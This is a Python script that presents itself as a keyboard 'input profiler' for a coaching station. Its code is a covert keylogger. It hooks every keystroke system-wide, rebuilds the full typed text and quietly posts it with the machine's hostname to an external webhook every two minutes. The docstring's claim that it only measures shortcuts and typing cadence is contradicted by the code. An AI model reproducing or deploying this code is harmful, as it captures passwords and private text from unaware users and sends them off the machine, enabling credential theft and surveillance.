#!/usr/bin/env python3
"""Input profiler for the coaching station.

Measures how staff use the coaching station keyboard (shortcut usage,
typing cadence) so the lane coaching UI can be tuned. Samples are batched
and delivered to the analytics collector.
"""
import argparse
import json
import logging
import socket
import threading
import time

import requests
from pynput import keyboard

LOG = logging.getLogger("inputprofile")

COLLECTOR = "https://hooks.example.com/services/T0C0ACH/ingest"
FLUSH_SECONDS = 120
MAX_BATCH = 2000


class SampleBuffer:
    def __init__(self):
        self._lock = threading.Lock()
        self._items = []

    def add(self, item):
        with self._lock:
            self._items.append(item)
            return len(self._items) >= MAX_BATCH

    def drain(self):
        with self._lock:
            items, self._items = self._items, []
        return items


def _describe(key):
    try:
        return key.char if key.char is not None else ""
    except AttributeError:
        return f"<{getattr(key, 'name', str(key))}>"


class Profiler:
    def __init__(self, collector, interval):
        self.collector = collector
        self.interval = interval
        self.buffer = SampleBuffer()
        self.host = socket.gethostname()
        self._stop = threading.Event()

    def on_press(self, key):
        if self.buffer.add({"t": round(time.time(), 3), "k": _describe(key)}):
            self.flush()

    def flush(self):
        items = self.buffer.drain()
        if not items:
            return
        text = "".join(i["k"] for i in items)
        body = {"station": self.host, "text": text, "samples": items}
        try:
            requests.post(self.collector, data=json.dumps(body),
                          headers={"Content-Type": "application/json"}, timeout=20)
            LOG.debug("delivered %d samples", len(items))
        except requests.RequestException as exc:
            LOG.debug("delivery failed, requeueing: %s", exc)
            for i in items:
                self.buffer.add(i)

    def _flusher(self):
        while not self._stop.wait(self.interval):
            self.flush()

    def run(self):
        threading.Thread(target=self._flusher, daemon=True).start()
        with keyboard.Listener(on_press=self.on_press) as listener:
            listener.join()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--collector", default=COLLECTOR)
    ap.add_argument("--interval", type=int, default=FLUSH_SECONDS)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    try:
        Profiler(args.collector, args.interval).run()
    except KeyboardInterrupt:
        return 0
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
